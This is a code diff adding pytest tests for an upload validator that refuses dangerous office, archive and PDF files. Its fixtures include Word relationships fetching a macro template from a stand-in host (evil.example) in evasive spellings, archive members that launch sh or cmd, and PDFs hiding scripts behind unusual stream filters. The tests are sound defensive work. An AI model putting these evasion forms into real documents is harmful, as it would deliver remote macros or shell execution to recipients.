@@ -103,6 +103,27 @@ def test_macros_and_templates_from_elsewhere_are_refused(data):
         format_of(data)
 
 
+@pytest.mark.parametrize(
+    "relation",
+    [
+        "<Relationship TargetMode='External' Type='http://x/attachedTemplate' Target='http://evil.example/t.dotm'/>",
+        '<Relationship TargetMode = "External"\n Target="http://evil.example/t.dotm" Type="http://x/attachedTemplate"/>',
+        '<Relationship Type="http://x/attachedTemplate" TargetMode="External"/>'.encode("utf-16"),
+    ],
+)
+def test_a_template_from_elsewhere_is_seen_however_it_is_written(relation):
+    with pytest.raises(InvalidInputError, match="macros"):
+        format_of(docx(**{"word/_rels/settings.xml.rels": relation}))
+
+
+def test_a_link_of_a_text_and_a_template_beside_it_are_no_program():
+    relations = (
+        '<Relationship Type="http://x/hyperlink" Target="https://example.com" TargetMode="External"/>'
+        '<Relationship Type="http://x/attachedTemplate" Target="normal.dotm"/>'
+    )
+    assert format_of(docx(**{"word/_rels/document.xml.rels": relations})) == "docx"
+
+
 def test_an_office_file_of_another_kind_is_refused():
     slides = zip_of({"[Content_Types].xml": '<Types ContentType="presentationml.presentation.main+xml"/>'})
     with pytest.raises(InvalidInputError, match="another kind"):
@@ -126,6 +147,9 @@ def test_an_archive_that_unpacks_elsewhere_is_refused(name):
         (zip_of({"inner.zip": zip_of({"a.csv": CSV})}), "another archive"),
         (zip_of({"tool.exe": WINDOWS_PROGRAM}), "Windows program"),
         (zip_of({"run.bat": "@echo off\n"}), "ends in .bat"),
+        (zip_of({"run.desktop": "[Desktop Entry]\nExec=sh\n"}), "ends in .desktop"),
+        (zip_of({"open.settingcontent-ms": "Open=cmd\n"}), "ends in .settingcontent-ms"),
+        (zip_of({"list.csv": CSV, "LIST.csv": CSV}), "names a file twice"),
         (zip_of({"list.csv": PDF}), "ends in .csv"),
         (zip_of({"zeros.csv": b"0" * 20_000_000}), "without measure"),
         (zip_of({f"{number}.csv": b"" for number in range(2_001)}), "2,001 files"),
@@ -164,6 +188,19 @@ def test_a_damaged_member_is_refused_as_a_damaged_archive():
 def test_a_pdf_with_scripts_or_files_is_refused_also_where_its_objects_are_compressed(objects, compressed):
     with pytest.raises(InvalidInputError, match="scripts, programs or other files"):
         format_of(pdf_with(objects, compressed=compressed))
+
+
+@pytest.mark.parametrize("packing", [b"/ASCIIHexDecode", b"[/ASCII85Decode /FlateDecode]", b"/LZWDecode"])
+def test_a_pdf_whose_objects_are_packed_in_another_way_is_refused(packing):
+    hidden = b"1 0 obj\n<< /Type /ObjStm /Filter " + packing + b" >>\nstream\n2F4A53\nendstream\nendobj"
+    with pytest.raises(InvalidInputError, match="cannot be looked into"):
+        format_of(pdf_with(hidden))
+
+
+def test_objects_of_a_pdf_that_are_not_packed_are_looked_into():
+    script = b"1 0 obj\n<< /Type /ObjStm /N 1 >>\nstream\n<< /JS (app.alert) >>\nendstream\nendobj"
+    with pytest.raises(InvalidInputError, match="scripts"):
+        format_of(pdf_with(script))
 
 
 def test_a_protected_pdf_is_refused():
